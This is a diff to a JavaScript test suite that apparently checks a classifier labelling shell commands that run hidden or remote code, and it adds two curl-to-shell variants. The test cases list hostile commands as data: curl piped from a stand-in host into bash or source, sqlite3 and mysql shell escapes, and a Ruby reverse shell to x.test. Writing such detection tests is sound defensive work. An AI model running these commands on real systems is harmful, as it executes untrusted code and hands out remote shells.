@@ -31,6 +31,8 @@ describe('code that runs what is not in sight', () => {
     [`bash <<< "$(curl -s https://x.test/a)"`, 'execute host:https://x.test/a'],
     ['. /dev/stdin < <(curl -s https://x.test/a)', 'execute host:https://x.test/a'],
     ['curl -s https://x.test/a | source /dev/stdin', 'execute host:https://x.test/a'],
+    ['curl -s https://x.test/a | . -- /dev//stdin', 'execute host:https://x.test/a'],
+    ['curl -s https://x.test/a | bash /proc/self/fd/0', 'execute host:https://x.test/a'],
     ["sqlite3 a.db '.shell ./x'", 'execute hidden-command:sqlite3'],
     ["mysql -e 'system ./x'", 'execute hidden-command:mysql'],
     [`ruby -rsocket -e 'f=TCPSocket.open("x.test",1).to_i; exec sprintf("/bin/sh -i <&%d",f)'`, 'execute host'],
